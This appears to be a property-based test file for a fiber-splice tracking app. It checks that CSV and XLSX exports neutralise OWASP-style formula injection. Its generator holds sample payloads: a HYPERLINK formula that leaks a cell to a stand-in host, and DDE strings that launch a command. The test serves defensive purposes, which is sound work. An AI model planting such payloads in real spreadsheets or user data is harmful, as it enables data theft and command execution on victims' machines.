import { parse as parseCsv } from 'csv-parse/sync'
import ExcelJS from 'exceljs'
import fc from 'fast-check'
import request from 'supertest'
import { v7 as uuidv7 } from 'uuid'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { makeTestApp, type TestApp } from './support/app'
import { mutation, pushOk, spliceArgs, userId, type PlannedSlot } from './support/sync'

// Formula injection (OWASP "CSV Injection"): whatever a user types into a field that reaches an export —
// closure label, cable label, splicer's name, splice notes, acceptance reason — a leading = + - @, tab or CR
// comes out behind an apostrophe in CSV and XLSX, while numbers (negative losses too) stay numbers.
// `LIGHTSEAM_FUZZ_RUNS` (default 20) and `LIGHTSEAM_FUZZ_SEED` reproduce a run.

const runs = Number(process.env.LIGHTSEAM_FUZZ_RUNS ?? 20)
const seed = Number(process.env.LIGHTSEAM_FUZZ_SEED ?? Date.now() % 2 ** 31)

let t: TestApp
let office: string
let slot: PlannedSlot
let spliceId: string
const client = uuidv7()
let seq = 0

const formulaStart = /^[=+\-@\t\r]/

function binary(res: request.Response, cb: (err: Error | null, body: Buffer) => void) {
  const chunks: Buffer[] = []
  res.on('data', (c: Buffer) => chunks.push(c))
  res.on('end', () => cb(null, Buffer.concat(chunks)))
}

beforeAll(async () => {
  t = makeTestApp()
  office = await t.tokenFor('office')
  // A planned slot of the vault closure with no splice yet; the splice logged there has a negative loss
  // (a gainer reading, which the loss range allows down to -1 dB).
  slot = t.database.sqlite
    .prepare(
      `SELECT c.id AS closureId, c.project_id AS projectId, p.tray_id AS trayId, p.slot, p.cable_a_id AS cableAId,
         p.fiber_a AS fiberA, p.cable_b_id AS cableBId, p.fiber_b AS fiberB
       FROM plan_rows p JOIN closures c ON c.id = p.closure_id
       WHERE c.label LIKE 'VLT-01%' AND p.deleted = 0
         AND NOT EXISTS (SELECT 1 FROM splices s WHERE s.tray_id = p.tray_id AND s.slot = p.slot)
       ORDER BY p.slot LIMIT 1`,
    )
    .get() as PlannedSlot
  const args = spliceArgs(slot, userId(t, 'splicer'), client, { lossDb: -0.02 })
  spliceId = args.id as string
  seq += 1
  const answer = await pushOk(t, 'splicer', client, [mutation(seq, 'createSplice', args)])
  expect(answer.results[0]!.status).toBe('applied')
})
afterAll(() => t.close())

/** Text a user could type that a spreadsheet would run: a formula or DDE start, then anything. */
const rest = fc.oneof(
  fc.constantFrom(
    'HYPERLINK("http://example.invalid/?leak="&A1,"Open")',
    "cmd|' /C calc'!A0",
    "SUM(1+1)*cmd|' /C calc'!A0",
    '1+1',
    '2-3',
    '',
  ),
  fc.string({ maxLength: 30 }),
)
const trimmedPrefix = fc.constantFrom('=', '+', '-', '@')
const anyPrefix = fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\t=', '\r\n=')
/** For trimmed fields (labels, names, reasons): the prefix survives the trim, a suffix keeps labels unique. */
const labelLike = fc
  .tuple(trimmedPrefix, rest, fc.integer({ min: 0, max: 1e6 }))
  .map(([p, r, n]) => `${p}${r}`.slice(0, 70).trimEnd() + ` ${n}`)
const noteLike = fc.tuple(anyPrefix, rest).map(([p, r]) => `${p}${r}`)

async function exportsOf() {
  const csv = await request(t.app)
    .get(`/api/closures/${slot.closureId}/export/splices?format=csv`)
    .set('Authorization', office)
  expect(csv.status).toBe(200)
  const xlsx = await request(t.app)
    .get(`/api/closures/${slot.closureId}/export/splices?format=xlsx`)
    .set('Authorization', office)
    .buffer(true)
    .parse(binary)
  expect(xlsx.status).toBe(200)
  const board = await request(t.app)
    .get(`/api/projects/${slot.projectId}/export/board`)
    .set('Authorization', office)
    .buffer(true)
    .parse(binary)
  expect(board.status).toBe(200)
  const sheet = async (body: Buffer) => {
    const wb = new ExcelJS.Workbook()
    await wb.xlsx.load(body as unknown as ArrayBuffer)
    return wb.worksheets[0]!
  }
  return {
    csv: parseCsv(csv.text, { relax_column_count: false }) as string[][],
    xlsx: await sheet(xlsx.body as Buffer),
    board: await sheet(board.body as Buffer),
  }
}

/** Every text cell of a sheet that a spreadsheet would read as a formula. */
function dangerousCells(rows: unknown[][]): string[] {
  return rows
    .flat()
    .filter((v): v is string => typeof v === 'string' && formulaStart.test(v))
    .map((v) => JSON.stringify(v))
}

const rowsOf = (ws: ExcelJS.Worksheet) => {
  const out: unknown[][] = []
  ws.eachRow((row) => out.push((row.values as unknown[]).slice(1)))
  return out
}

describe('formula injection in exports', () => {
  it('when user-entered fields start like a formula, then every export carries them as text and numbers as numbers', async () => {
    await fc.assert(
      fc.asyncProperty(
        fc.record({ closure: labelLike, cable: labelLike, name: labelLike, notes: noteLike }),
        async (typed) => {
          const as = (method: 'patch', path: string, body: object) =>
            request(t.app)[method](path).set('Authorization', office).send(body)
          expect(
            (await as('patch', `/api/closures/${slot.closureId}`, { label: typed.closure })).status,
          ).toBe(200)
          expect((await as('patch', `/api/cables/${slot.cableAId}`, { label: typed.cable })).status).toBe(200)
          expect((await as('patch', `/api/users/${userId(t, 'splicer')}`, { name: typed.name })).status).toBe(
            200,
          )
          seq += 1
          const base = t.database.sqlite
            .prepare('SELECT value FROM change_seq WHERE id = 1')
            .pluck()
            .get() as number
          const answer = await pushOk(t, 'splicer', client, [
            mutation(seq, 'updateSplice', { id: spliceId, fields: { notes: typed.notes } }, base),
          ])
          expect(answer.results[0]!.status, JSON.stringify(answer.results[0])).toBe('applied')

          // What the server stored (labels and names are trimmed), each with its apostrophe in front.
          const stored = t.database.sqlite
            .prepare(
              `SELECT c.label AS closure, a.label AS cable, u.name AS name, s.notes AS notes, s.loss_db AS loss
               FROM splices s JOIN closures c ON c.id = s.closure_id JOIN cables a ON a.id = s.cable_a_id
               JOIN users u ON u.id = s.splicer_id WHERE s.id = ?`,
            )
            .get(spliceId) as { closure: string; cable: string; name: string; notes: string; loss: number }
          for (const field of ['closure', 'cable', 'name', 'notes'] as const)
            expect(formulaStart.test(stored[field]), `${field} ${JSON.stringify(stored[field])}`).toBe(true)
          const { csv, xlsx, board } = await exportsOf()

          const header = csv[0]!
          const col = (name: string) => header.indexOf(name)
          const csvRow = csv.find((r) => r[col('Notes')] === `'${stored.notes}`)
          expect(csvRow, 'the splice row in the CSV').toBeDefined()
          expect(csvRow![col('Closure')]).toBe(`'${stored.closure}`)
          expect(csvRow![col('Cable A')]).toBe(`'${stored.cable}`)
          expect(csvRow![col('Splicer')]).toBe(`'${stored.name}`)
          // A negative loss is a number, written as one: not neutralised.
          expect(csvRow![col('Estimated loss (dB)')]).toBe('-0.02')
          // No text cell in the file starts like a formula, except numbers in number columns.
          const numeric = new Set(
            ['Tray', 'Slot', 'Fiber A', 'Fiber B', 'Estimated loss (dB)', 'Attempt'].map(col),
          )
          const loose = csv
            .slice(1)
            .flatMap((r) =>
              r.filter((v, i) => formulaStart.test(v) && !(numeric.has(i) && /^-?\d+(\.\d+)?$/.test(v))),
            )
          expect(loose).toEqual([])

          const rows = rowsOf(xlsx)
          const xHeader = rows[0] as string[]
          const xCol = (name: string) => xHeader.indexOf(name)
          // XML text folds a CR into LF when it is read back, so the XLSX note is compared with CRs as LFs.
          const lf = (v: unknown) => (typeof v === 'string' ? v.replace(/\r\n?/g, '\n') : v)
          const xRow = rows.find((r) => lf(r[xCol('Notes')]) === lf(`'${stored.notes}`))
          expect(xRow, 'the splice row in the XLSX').toBeDefined()
          expect(xRow![xCol('Closure')]).toBe(`'${stored.closure}`)
          expect(xRow![xCol('Cable A')]).toBe(`'${stored.cable}`)
          expect(xRow![xCol('Splicer')]).toBe(`'${stored.name}`)
          expect(xRow![xCol('Estimated loss (dB)')]).toBe(-0.02)
          expect(dangerousCells(rows)).toEqual([])
          // No cell is written as a formula at all.
          xlsx.eachRow((row) => row.eachCell((cell) => expect(cell.type).not.toBe(ExcelJS.ValueType.Formula)))

          const boardRows = rowsOf(board)
          expect(boardRows.some((r) => r[0] === `'${stored.closure}`)).toBe(true)
          expect(dangerousCells(boardRows)).toEqual([])
        },
      ),
      { numRuns: runs, seed, endOnFailure: true },
    )
  }, 120_000)
})
